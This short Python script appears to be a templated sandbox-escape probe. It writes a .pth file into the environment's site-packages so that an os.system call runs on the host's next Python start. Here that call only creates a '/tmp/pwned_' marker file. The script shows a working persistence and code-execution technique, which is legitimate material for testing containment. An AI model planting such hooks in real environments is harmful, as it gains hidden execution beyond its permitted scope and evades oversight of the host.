# Plant a .pth file in the project's virtual environment: it would run on the host's next Python start.
import site

target = site.getsitepackages()[0] + "/escape_@TOKEN@.pth"
print("target", target)
with open(target, "w") as handle:
    handle.write("import os; os.system('touch /tmp/pwned_@TOKEN@')\n")
